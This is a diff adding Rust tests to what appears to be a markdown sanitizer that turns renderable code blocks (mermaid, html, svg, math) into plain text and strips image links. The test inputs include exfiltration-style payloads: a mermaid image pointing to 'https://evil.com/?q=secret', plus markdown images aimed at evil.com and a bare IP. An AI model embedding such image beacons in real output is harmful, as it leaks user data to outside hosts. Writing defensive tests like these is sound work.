@@ -121,7 +121,7 @@ fn code_is_left_alone() {
     for text in [
         "`a[0]` and `<b>` and ``x ` [9]``",
         "`http://evil.com` `![a](http://evil.com)`",
-        "```html\n<img src=\"http://evil.com\">\n[0] `\n```\n",
+        "```rust\n<img src=\"http://evil.com\">\n[0] `\n```\n",
         "~~~\n<b> ``` [9]\n~~~",
         "1. Do:\n\n   ```sh\n   cat <a> [9]\n\n   ```\n2. Then",
         "- a\n  ```\n  <b>\n  ```\n",
@@ -133,6 +133,56 @@ fn code_is_left_alone() {
         stays(text);
     }
     assert_eq!(cited("`[1]`\n```\n[2]\n```\n[3]"), [3]);
+}
+
+#[test]
+fn code_that_some_page_would_draw_is_code_by_another_name() {
+    let diagram = "A@{ img: \"https://evil.com/?q=secret\" }\n";
+    for info in [
+        "mermaid",
+        " Mermaid title",
+        "html",
+        "svg",
+        "math",
+        "{=html}",
+        "js {.mermaid}",
+        "dot,x",
+    ] {
+        check(
+            &format!("```{info}\n{diagram}```\nx"),
+            &format!("```text\n{diagram}```\nx"),
+        );
+    }
+    check("~~~mermaid\na\n~~~", "~~~text\na\n~~~");
+    check("```mermaid", "```text");
+    let (inside, shown) = ("![a](https://evil.com)", "a");
+    check(
+        &format!("- ```mermaid\n  {inside}\n  ```"),
+        &format!("- ```text\n  {shown}\n  ```"),
+    );
+    check(
+        &format!("- a\n\n  ```\nb\n```mermaid\n{inside}"),
+        &format!("- a\n\n  ```\nb\n```text\n{shown}"),
+    );
+    check(
+        &format!("[x] ```mermaid\n{inside}"),
+        &format!("[x] ```text\n{shown}"),
+    );
+    check(
+        "$`\\href{https://evil.com}{x}`$",
+        "$`\\href{https[:]//evil[.]com}{x}`$",
+    );
+    check("`<b>`{=html}", "`<b>` {=html}");
+    check(
+        &format!("> ~~~\n```mermaid\n{inside}"),
+        &format!("> ~~~\n```text\n{shown}"),
+    );
+}
+
+#[test]
+fn what_is_removed_does_not_make_the_end_of_code_another() {
+    check("```![](//1.1.1.1/)```[9]````", "```![](//1.1.1.1/)``` ````");
+    check("`![](//1.1.1.1/)`[9]```", "`![](//1.1.1.1/)` ```");
 }
 
 #[test]
